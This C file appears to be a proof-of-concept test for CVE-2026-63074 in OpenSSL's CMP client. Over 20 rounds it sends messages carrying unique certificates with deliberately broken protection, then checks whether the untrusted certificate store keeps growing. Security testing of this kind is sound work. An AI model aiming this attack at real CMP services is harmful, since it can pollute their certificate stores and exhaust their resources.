/* vulnerability: CVE-2026-63074: the certificates of messages that were refused are not kept */
#define _GNU_SOURCE
#include "support/attack.h"
#include "support/authority.h"

#define ROUNDS 20

static int certificates_before;

static void count_before(OSSL_CMP_CTX *ctx)
{
    certificates_before = sk_X509_num(OSSL_CMP_CTX_get0_untrusted(ctx));
}

/* A certificate that no other message has, and a protection that is none. */
static void add_certificate(struct message *message)
{
    EVP_PKEY *key = authority_key();
    X509 *certificate = authority_issue("unique", key, NULL, key, PLAIN);
    unsigned char *bytes = NULL;
    int length = i2d_X509(certificate, &bytes);

    message->extra_certs = der_wrap(0xa1, der_wrap(0x30, (struct der){ bytes, (size_t)length }));
    alter_flip_last(&message->protection);
    OPENSSL_free(bytes);
    X509_free(certificate);
    EVP_PKEY_free(key);
}

/* An honest message may add its own few. */
static int grows(OSSL_CMP_CTX *ctx)
{
    return sk_X509_num(OSSL_CMP_CTX_get0_untrusted(ctx)) >= certificates_before + ROUNDS;
}

int main(int argc, char **argv)
{
    static const struct attack attack
        = { .spoil = add_certificate, .prepare = count_before, .is_harmed = grows, .rounds = ROUNDS };

    return attack_main(argc, argv, &attack, "ec");
}
